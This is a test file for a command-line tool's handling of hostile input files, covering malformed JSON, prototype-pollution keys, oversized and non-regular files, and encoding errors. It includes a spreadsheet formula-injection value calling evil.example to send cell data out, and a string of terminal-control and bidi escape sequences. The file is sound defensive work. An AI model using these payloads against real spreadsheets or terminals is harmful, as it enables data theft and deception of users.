/**
 * Hostile files through the CLI: every class of issue 9 exits 1 with one `FILE: path: message`
 * line per problem and no stack trace. The messages themselves are pinned by
 * shared/schema/hostile.test.ts; here the point is the file on disk and the exit code.
 */
import { execFileSync } from 'node:child_process';
import type * as fsSync from 'node:fs';
import * as fs from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parseXmlStrict } from '../shared/testing/xml';
import { MAX_FILE_BYTES } from '../system';
import { runCli, template } from './testing';

/** Bytes read by node:fs's `readSync` (the CLI's input files): an oversized file must cost none. */
const bytesRead = { count: 0 };
// A spy over the real readSync, counting the bytes each call read.
vi.mock('node:fs', async (importOriginal) => {
  const real = await importOriginal<typeof fsSync>();
  const readSync = (...args: Parameters<typeof real.readSync>) => {
    const count = real.readSync(...args);
    bytesRead.count += count;
    return count;
  };
  return { ...real, default: { ...real, readSync }, readSync: vi.fn(readSync) };
});
const { mkdtemp, rm, writeFile } = fs;

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'nines-hostile-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const MINIMAL = {
  format: 'nines/1',
  name: 'Minimal',
  variants: [
    {
      id: 'v1',
      name: 'One region',
      entry: 'app',
      nodes: [
        { id: 'r1', kind: 'region' },
        { id: 'app', kind: 'service', parent: 'r1', instances: 2 },
      ],
      edges: [],
    },
  ],
};
const MINIMAL_TEXT = JSON.stringify(MINIMAL, null, 2);

async function file(name: string, content: string | Uint8Array): Promise<string> {
  const at = path.join(dir, name);
  await writeFile(at, content);
  return at;
}

/** `nines validate FILE`, expecting exit 1, nothing on stdout and no stack trace. */
async function refused(at: string): Promise<string[]> {
  const run = await runCli('validate', at);
  expect(run.code).toBe(1);
  expect(run.stdout).toBe('');
  expect(run.stderr).not.toMatch(/^\s+at /m);
  return run.stderr.trimEnd().split('\n');
}

/** MINIMAL_TEXT encoded as UTF-16. */
function utf16(endian: 'le' | 'be', withBom: boolean): Uint8Array {
  const units = [...`${withBom ? '\uFEFF' : ''}${MINIMAL_TEXT}`].map((c) => c.charCodeAt(0));
  return new Uint8Array(
    units.flatMap((u) => (endian === 'le' ? [u & 0xff, u >> 8] : [u >> 8, u & 0xff])),
  );
}

describe('nines validate on hostile project files', () => {
  it('accepts the minimal file and the same with a UTF-8 byte order mark', async () => {
    const plain = await runCli('validate', await file('ok.nines.json', MINIMAL_TEXT));
    const bom = await runCli('validate', await file('bom.nines.json', `\uFEFF${MINIMAL_TEXT}`));
    expect([plain.code, bom.code]).toEqual([0, 0]);
  });

  it.each([
    [
      'truncated',
      MINIMAL_TEXT.slice(0, 40),
      '(document): not valid JSON: unexpected end of string at line 3, column 11',
    ],
    ['not an object', '[]', '(document): must be a JSON object with "format": "nines/1"'],
    [
      'a wrong type',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": "2"'),
      'variants[0].nodes[1].instances: must be a positive integer',
    ],
    [
      'NaN',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": NaN'),
      '(document): not valid JSON: invalid symbol at line 18, column 24',
    ],
    [
      'a number too large for a double',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": 1e400'),
      'variants[0].nodes[1].instances: must be a positive integer',
    ],
    [
      'a negative count',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": -2'),
      'variants[0].nodes[1].instances: must be a positive integer',
    ],
    [
      'a huge count',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": 1000000000'),
      'variants[0].nodes[1].instances: must be at most 1000',
    ],
    [
      'a duplicate id',
      MINIMAL_TEXT.replace('"kind": "region"', '"kind": "region"}, {"id": "app", "kind": "queue"'),
      'variants[0].nodes[2].id: duplicate node id "app" (first used at variants[0].nodes[1].id)',
    ],
    [
      'a dangling reference',
      MINIMAL_TEXT.replace('"parent": "r1"', '"parent": "r2"'),
      'variants[0].nodes[1].parent: names no node of this variant ("r2")',
    ],
    [
      'a cycle',
      MINIMAL_TEXT.replace(
        '"edges": []',
        '"edges": [{"from": "app", "to": "app2", "kind": "depends"}, {"from": "app2", "to": "app", "kind": "depends"}]',
      ).replace('"kind": "region"', '"kind": "region"}, {"id": "app2", "kind": "service"'),
      'variants[0].edges[1]: dependency cycle: app2 → app → app2',
    ],
    [
      'a future format',
      MINIMAL_TEXT.replace('nines/1', 'nines/7'),
      'format: "nines/7" is newer than this version of Nines reads ("nines/1"): update Nines to open it',
    ],
    [
      'an unknown kind',
      MINIMAL_TEXT.replace('"kind": "service"', '"kind": "lambda"'),
      'variants[0].nodes[1].kind: unknown kind "lambda" (expected one of region, zone, router, service, datastore, queue, objectStore, backup, external)',
    ],
    [
      'a __proto__ key',
      MINIMAL_TEXT.replace('"name"', '"__proto__": {"polluted": true}, "name"'),
      '__proto__: unknown field',
    ],
    [
      'a constructor key',
      MINIMAL_TEXT.replace('"name"', '"constructor": {"prototype": {}}, "name"'),
      'constructor: unknown field',
    ],
    [
      'deep nesting',
      `{"format": "nines/1", "name": ${'['.repeat(100_000)}`,
      '(document): nested more than 64 levels deep at line 1, column 94',
    ],
  ])('%s', async (name, text, problem) => {
    const at = await file(`${name.replaceAll(' ', '-')}.nines.json`, text);
    expect(await refused(at)).toEqual([`${at}: ${problem}`]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each([
    ['UTF-16LE with a byte order mark', utf16('le', true), 'UTF-16LE'],
    ['UTF-16BE with a byte order mark', utf16('be', true), 'UTF-16BE'],
    ['UTF-16LE without one', utf16('le', false), 'UTF-16LE'],
  ])('%s: says UTF-16 is not supported', async (name, bytes, which) => {
    const at = await file(`${name.replaceAll(' ', '-')}.nines.json`, bytes);
    expect(await refused(at)).toEqual([
      `${at}: (document): UTF-16 is not supported: save the file as UTF-8 (it is ${which})`,
    ]);
  });

  it('a Latin-1 file: names the byte and its line', async () => {
    const text = new TextEncoder().encode(MINIMAL_TEXT.replace('Minimal', 'Zurich'));
    const at = await file(
      'latin1.nines.json',
      text.map((b) => (b === 0x75 ? 0xfc : b)),
    );
    expect(await refused(at)).toEqual([
      `${at}: (document): not UTF-8: byte 0xFC on line 3 (the file may be Windows-1252 or Latin-1): save the file as UTF-8`,
    ]);
  });

  it('a 100 MB file is refused by its size, without being read', async () => {
    const at = path.join(dir, 'huge.nines.json');
    const size = 100 * 1024 * 1024;
    await writeFile(at, `{"format": "nines/1", "name": "${'x'.repeat(size - 33)}"}`);
    bytesRead.count = 0;
    expect(await refused(at)).toEqual([
      `${at}: (document): file is too large (${size} bytes; at most ${50 * 1024 * 1024})`,
    ]);
    expect(bytesRead.count).toBe(0);
    // The spy does see the CLI's reads.
    await runCli('validate', await file('small.nines.json', MINIMAL_TEXT));
    expect(bytesRead.count).toBe(MINIMAL_TEXT.length);
  });

  it('every command that reads a project refuses it the same way', async () => {
    const at = await file(
      'dangling.nines.json',
      MINIMAL_TEXT.replace('"entry": "app"', '"entry": "x"'),
    );
    for (const command of ['evaluate', 'simulate', 'export-mef', 'compare', 'advise']) {
      const run = await runCli(command, at);
      expect({ command, code: run.code, stderr: run.stderr }).toEqual({
        command,
        code: 1,
        stderr: `${at}: variants[0].entry: names no node of this variant ("x")\n`,
      });
    }
  });
});

describe('nines compare --prices on hostile price files', () => {
  const compare = (prices: string) => runCli('compare', template('ha-options'), '--prices', prices);

  it('wrong columns, bad numbers, duplicate keys and a formula are each placed by line and column', async () => {
    const csv = await file(
      'bad.csv',
      ['key,usd,unit,source,cost', 'aws:us-east-1:compute:m7i.large,0.1,hour,list,1'].join('\n'),
    );
    const header = await compare(csv);
    expect(header.code).toBe(1);
    expect(header.stderr).toContain(`${csv}:1:5: unknown column "cost"`);

    const rows = await file(
      'rows.csv',
      [
        'key,usd,unit,source',
        'aws:us-east-1:compute:m7i.large,0.1,hour,list',
        'aws:us-east-1:compute:m7i.large,0.2,hour,list',
        'aws:us-east-1:compute:m7i.xlarge,=1+1,hour,list',
        'aws:us-east-1:compute:m7i.2xlarge,-0.4,hour,list',
      ].join('\n'),
    );
    const run = await compare(rows);
    expect(run.code).toBe(1);
    expect(run.stderr).not.toMatch(/^\s+at /m);
    expect(run.stderr.trimEnd().split('\n')).toEqual([
      `${rows}:3:1: duplicate key "aws:us-east-1:compute:m7i.large" (first on line 2)`,
      `${rows}:4:2: usd "=1+1" is not a number ≥ 0`,
      `${rows}:5:2: usd "-0.4" is not a number ≥ 0`,
    ]);
  });

  it('a formula in an imported cell stays text, and is neutralised in the exported breakdown', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"prices")';
    const prices = await file(
      'formula.csv',
      [
        'key,usd,unit,source',
        `aws:eu-west-1:load-balancer:alb,0.0252,hour,"${formula.replaceAll('"', '""')}"`,
      ].join('\n'),
    );
    const run = await compare(prices);
    expect(run.code).toBe(0);
    const csv = await runCli('compare', template('ha-options'), '--prices', prices, '--csv');
    const rows = csv.stdout.split('\r\n').filter((row) => row.includes('HYPERLINK'));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row).toContain(`"'${formula.replaceAll('"', '""')}"`);
  });

  it('UTF-16 and Latin-1 price files are refused by their bytes', async () => {
    const le = await file('prices-utf16.csv', new Uint8Array([0xff, 0xfe, 0x6b, 0x00]));
    const latin1 = await file('prices-latin1.csv', new Uint8Array([0x6b, 0x65, 0x79, 0xe9]));
    for (const at of [le, latin1]) {
      const run = await compare(at);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(/save the file as UTF-8/);
    }
  });
});

describe('files that are not regular files, and the shared limits (issue 18)', () => {
  /** A FIFO with no writer: opening it for reading would wait forever. */
  async function fifo(name: string): Promise<string> {
    const at = path.join(dir, name);
    execFileSync('mkfifo', [at]);
    return at;
  }

  it.skipIf(process.platform === 'win32')(
    'a FIFO, /dev/zero and a folder are refused as a project file, without reading',
    async () => {
      const pipe = await fifo('pipe.nines.json');
      for (const [at, kind] of [
        [pipe, 'a pipe (FIFO)'],
        ['/dev/zero', 'a device'],
        [dir, 'a folder'],
      ] as const) {
        expect(await refused(at)).toEqual([
          `${at}: (file): cannot read: it is ${kind}, not a regular file`,
        ]);
      }
    },
  );

  it.skipIf(process.platform === 'win32')(
    'the same for --prices, with the project file’s size limit',
    async () => {
      const pipe = await fifo('pipe.csv');
      const compare = (prices: string) =>
        runCli('compare', template('ha-options'), '--prices', prices);
      for (const [at, kind] of [
        [pipe, 'a pipe (FIFO)'],
        ['/dev/zero', 'a device'],
        [dir, 'a folder'],
      ] as const) {
        const run = await compare(at);
        expect({ code: run.code, stderr: run.stderr }).toEqual({
          code: 1,
          stderr: `${at}: cannot read: it is ${kind}, not a regular file\n`,
        });
      }
      const big = path.join(dir, 'big.csv');
      await writeFile(big, Buffer.alloc(MAX_FILE_BYTES + 1, 0x61));
      const run = await compare(big);
      expect(run.stderr).toBe(
        `${big}: file is too large (${MAX_FILE_BYTES + 1} bytes; at most ${MAX_FILE_BYTES})\n`,
      );
    },
  );

  it('a duplicate key is refused at its second occurrence, with its JSON path', async () => {
    const at = await file(
      'duplicate.nines.json',
      MINIMAL_TEXT.replace('"instances": 2', '"instances": 1000000, "instances": 2'),
    );
    expect(await refused(at)).toEqual([
      `${at}: variants[0].nodes[1].instances: duplicate key "instances" (first at line 18, column 11): a JSON file may give a key once`,
    ]);
  });

  it('a price CSV header of 200,000 repeated columns is one line; usd 1e308 is refused', async () => {
    const header = await file('columns.csv', `${Array(200_000).fill('key').join(',')}\n`);
    const run = await runCli('compare', template('ha-options'), '--prices', header);
    expect(run.stderr).toBe(
      `${header}:1:0: more than 64 fields on one line (a price file has 8 columns at most)\n`,
    );
    const huge = await file(
      'huge-price.csv',
      'key,usd,unit,source\naws:us-east-1:compute:m7i.large,1e308,hour,list\n',
    );
    const priced = await runCli('compare', template('ha-options'), '--prices', huge);
    expect({ code: priced.code, stderr: priced.stderr }).toEqual({
      code: 1,
      stderr: `${huge}:2:2: usd 1e308 is more than 1000000000000\n`,
    });
  });

  it('lists the first 50 problems of a file and counts the rest', async () => {
    const doc = structuredClone(MINIMAL) as { variants: { nodes: object[] }[] };
    for (let i = 0; i < 120; i += 1) doc.variants[0]!.nodes.push({ id: `x${i}`, kind: 'lambda' });
    const lines = await refused(await file('many.nines.json', JSON.stringify(doc)));
    expect(lines).toHaveLength(51);
    expect(lines[50]).toMatch(/: \(document\): and 70 more problems$/);
  });
});

describe('names from a file never reach the terminal as control characters (issue 18)', () => {
  const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\rX\u009b31m\u202Egpj.exe\u2028\u007f';
  /** Anything a terminal would obey: C0 but line feed and tab, a lone CR, DEL, C1, bidi, LS/PS. */
  const OBEYED =
    // eslint-disable-next-line no-control-regex -- matching control characters is the point
    /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

  async function hostileFile(): Promise<string> {
    const doc = JSON.parse(await fs.readFile(template('ha-options'), 'utf8')) as {
      name: string;
      variants: { name: string; nodes: { name?: string }[] }[];
      scenarios?: { name: string }[];
    };
    doc.name = `Shop ${HOSTILE}`;
    for (const v of doc.variants) {
      v.name = `${v.name} ${HOSTILE}`;
      for (const n of v.nodes) n.name = `node ${HOSTILE}`;
    }
    for (const s of doc.scenarios ?? []) s.name = `${s.name} ${HOSTILE}`;
    return file('hostile-names.nines.json', JSON.stringify(doc));
  }

  it.each([
    ['validate'],
    ['evaluate'],
    ['evaluate', '--json'],
    ['simulate', '--years', '20'],
    ['compare'],
    ['compare', '--csv'],
    ['compare', '--json'],
    ['advise'],
    ['export-mef'],
  ])('nines %s', async (command, ...options) => {
    const at = await hostileFile();
    const run = await runCli(command, at, ...options);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(OBEYED);
    expect(run.stderr).not.toMatch(OBEYED);
    if (options.includes('--json')) {
      // Escaped for the terminal, the JSON still holds the names exactly.
      const json = JSON.stringify(JSON.parse(run.stdout));
      expect(json).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    }
  });

  it('nines plan --md writes the plan and prints the name escaped', async () => {
    const at = await hostileFile();
    const out = path.join(dir, 'hostile-plan.md');
    const run = await runCli('plan', at, '--md', out, '--date', '2026-01-01');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(OBEYED);
    expect(run.stdout).toContain('\\u001b]0;pwned\\u0007');
  });

  it('nines plan --docx writes a document whose XML parses (the docx library drops what XML forbids)', async () => {
    const at = await hostileFile();
    const out = path.join(dir, 'hostile-plan.docx');
    const run = await runCli('plan', at, '--docx', out, '--date', '2026-01-01');
    expect(run.code, run.stderr).toBe(0);
    const files = unzipSync(new Uint8Array(await fs.readFile(out)));
    for (const name of ['word/document.xml', 'docProps/core.xml']) {
      const xml = strFromU8(files[name] as Uint8Array);
      expect(xml).toContain('pwned');
      // A strict XML parser refuses a character XML 1.0 forbids (a raw ESC, say).
      expect(() => parseXmlStrict(xml), name).not.toThrow();
    }
  });
});
